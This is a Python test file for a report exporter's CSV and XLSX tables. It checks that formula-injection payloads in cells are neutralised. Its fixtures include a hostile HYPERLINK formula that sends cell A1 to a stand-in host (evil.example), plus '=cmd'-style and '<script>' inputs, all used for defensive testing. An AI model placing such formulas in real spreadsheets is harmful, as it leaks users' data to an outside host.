"""CSV and XLSX tables: read back with the csv module and openpyxl, names
beside ids, and no cell that a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from _export_fixture import export_report, hostile_report  # noqa: F401  (fixture)
from rashomon.export import export
from rashomon.export.tables import FORMULA_START, TABLES, XLSX_CELL_LIMIT, neutralise, tables
from rashomon.report.context import build_context
from rashomon.report.labels import NARRATOR, PRONOUNS


def _read_csv(folder: Path, name: str) -> list[list[str]]:
    with open(folder / f"{name}.csv", encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _as_csv_text(value) -> str:
    """How the csv module writes a cell value (booleans and numbers as str)."""
    return "" if value is None else str(value)


def _raw(value: str) -> str:
    """A neutralised cell back to its text: the added ``'`` removed."""
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_START) else value


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-5 dead", "'-5 dead"), ("@everyone", "'@everyone"),
    ("\t=cmd", "'\t=cmd"), ("\r=cmd", "'\r=cmd"), ("a=1", "a=1"), ("'quoted", "'quoted"), ("", ""),
    (None, ""), (-5, -5), (3.5, 3.5), (True, True), (["=a", "b"], "'=a; b"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_reads_back_cell_for_cell(export_report, tmp_path):
    folder = tmp_path / "tables"
    paths = export(export_report, "csv", folder)
    assert [p.name for p in paths] == [f"{n}.csv" for n in TABLES]
    built = tables(export_report, build_context(export_report))
    for name, (cols, rows) in built.items():
        back = _read_csv(folder, name)
        assert back[0] == cols
        assert back[1:] == [[_as_csv_text(v) for v in row] for row in rows], name
        for row in back[1:]:
            assert not any(cell.startswith(FORMULA_START) for cell in row), (name, row)
    assert len(built["articles"][1]) == len(export_report.articles)
    assert len(built["quotes"][1]) == len(export_report.quotes)
    assert len(built["claims"][1]) == len(export_report.claims)
    for kind, name in (("agrees", "agreements"), ("repeats", "repeats")):
        # one row per group of one proposition, each claim once in its row (a claim
        # in two propositions is in two rows); every related claim in some row
        cols, rows = built[name]
        per_row = [dict(zip(cols, row))["claim_ids"].split("; ") for row in rows]
        assert all(len(ids) == len(set(ids)) for ids in per_row)
        assert {c for ids in per_row for c in ids} == {
            x for r in export_report.relations if r.kind == kind for x in (r.a, r.b)}
    assert len(built["entities"][1]) >= sum(len(set(e.aliases)) for e in export_report.entities)


def test_names_beside_ids(export_report, tmp_path):
    names = {e.id: e.name for e in export_report.entities}
    built = tables(export_report, build_context(export_report))
    cols, rows = built["quotes"]
    for row in rows:
        rec = dict(zip(cols, row))
        assert _raw(rec["speaker"]) == names.get(rec["speaker_id"], "")
        assert rec["article"]
    cols, rows = built["claims"]
    held = {c.id: c.holder_text for c in export_report.claims}
    for row in rows:  # the holder: the speaker's name, else the text's own words for the holder, else the narrator
        rec = dict(zip(cols, row))
        assert _raw(rec["speaker"]) == (names[rec["speaker_id"]] if rec["speaker_id"] else
                                        held[rec["id"]] if held[rec["id"]] and held[rec["id"]].lower() not in PRONOUNS
                                        else NARRATOR)
    cols, rows = built["entities"]
    per_entity = {}
    for row in rows:
        rec = dict(zip(cols, row))
        per_entity.setdefault(rec["entity_id"], set()).add(_raw(rec["alias"]))
        assert _raw(rec["entity"]) == names[rec["entity_id"]]
    for e in export_report.entities:
        assert set(e.aliases) <= per_entity[e.id]


def test_disputes_show_both_sides():
    report = hostile_report()
    cols, rows = tables(report, build_context(report))["disputes"]
    [row] = rows
    rec = dict(zip(cols, row))
    assert rec["label"] == "'=people aboard" and rec["a_tag"] == "A1" and rec["b_tag"] == "B1"
    assert {rec["a_claim_id"], rec["b_claim_id"]} == {"c0", "c1"}
    assert {rec["a_speaker"], rec["b_speaker"]} == {"'=Ana Kovic", "\U0001D4D2ole Reed"}
    assert {rec["a_article"], rec["b_article"]} == {"'@Pier Post", "'-Bay <b>Times</b>"}
    assert rec["reason"] == "'@30 aboard vs no one aboard" and rec["same_speaker"] is False


def test_hostile_cells_are_neutralised_and_otherwise_kept(tmp_path):
    report = hostile_report()
    folder = tmp_path / "tables"
    export(report, "csv", folder)
    articles = {row[0]: row for row in _read_csv(folder, "articles")[1:]}
    assert articles["a0"][3] == "'=HYPERLINK(\"http://x.example\",\"x\")"
    assert articles["a1"][3] == "'\r=1+1"
    assert articles["a0"][4] == "'@Pier Post" and articles["a1"][4] == "'-Bay <b>Times</b>"
    quotes = _read_csv(folder, "quotes")
    header = quotes[0]
    q1 = dict(zip(header, quotes[2]))
    assert q1["text"] == "no one\nwas aboard the ferry"  # a line break inside a cell survives
    q0 = dict(zip(header, quotes[1]))
    assert q0["text"] == "'@once: the ferry sank \U0001F6A2 with 30 aboard" and q0["relayed_by"] == "'\t=Harbour Board"
    timeline = dict(zip(*_read_csv(folder, "timeline")[:2]))
    assert timeline["label"] == "'=ferry sank\n<script>" and timeline["conflict"] == "'@dates differ"
    raw = (folder / "articles.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, as Excel expects


def test_hostile_corpus_title_is_neutralised(hostile_corpus_report, tmp_path):
    """The formula in a title read from the input (a JSON-lines record) reaches the sheet as text."""
    folder = tmp_path / "tables"
    export(hostile_corpus_report, "csv", folder)
    cols, *rows = _read_csv(folder, "articles")
    titles = [dict(zip(cols, r))["title"] for r in rows]
    assert titles[0] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click here\")"
    assert titles[1] == "'+Port authority: no deaths at Quillon"


def test_xlsx_reads_back_like_the_csv(export_report, tmp_path):
    import openpyxl

    path = export(export_report, "xlsx", tmp_path / "report.xlsx")[0]
    wb = openpyxl.load_workbook(path)
    built = tables(export_report, build_context(export_report))
    assert wb.sheetnames == list(TABLES)
    for name, (cols, rows) in built.items():
        ws = wb[name]
        assert ws.freeze_panes == "A2" and ws["A1"].font.b
        values = [[c.value for c in r] for r in ws.iter_rows()]
        assert values[0] == cols
        expected = [["\ufffd".join(v.split("\x07")) if isinstance(v, str) else v for v in row] for row in rows]
        assert [[("" if v is None else v) for v in row] for row in values[1:]] == expected, name
        for r in ws.iter_rows(min_row=2):
            assert all(c.data_type != "f" for c in r), name  # no cell is a formula


def test_xlsx_cuts_a_cell_over_excels_limit(tmp_path):
    import openpyxl

    report = hostile_report()
    long = "x" * (XLSX_CELL_LIMIT + 10)
    report.articles[0].title = long
    ws = openpyxl.load_workbook(export(report, "xlsx", tmp_path / "r.xlsx")[0])["articles"]
    assert len(ws["D2"].value) == XLSX_CELL_LIMIT and ws["D2"].value.endswith("…")
    export(report, "csv", tmp_path / "csv")
    assert _read_csv(tmp_path / "csv", "articles")[1][3] == long  # the CSV keeps every character


def test_xlsx_table_longer_than_a_sheet_goes_on_in_the_next(tmp_path, monkeypatch):
    import openpyxl

    from rashomon.export import tables as tables_module

    monkeypatch.setattr(tables_module, "XLSX_ROW_LIMIT", 3)  # two data rows a sheet
    report = hostile_report()
    wb = openpyxl.load_workbook(export(report, "xlsx", tmp_path / "r.xlsx")[0])
    assert [n for n in wb.sheetnames if n.startswith("claims")] == ["claims", "claims (2)"]
    ids = [r[0].value for n in ("claims", "claims (2)") for r in wb[n].iter_rows(min_row=2)]
    assert ids == [c.id for c in report.claims]
    assert wb["claims (2)"]["A1"].value == "id" and wb["reuse"].max_row == 2



@given(st.text())
def test_no_neutralised_text_starts_a_formula_and_the_text_comes_back(text):
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_START)
    assert _raw(cell) == text or (text.startswith("'") and cell == text)
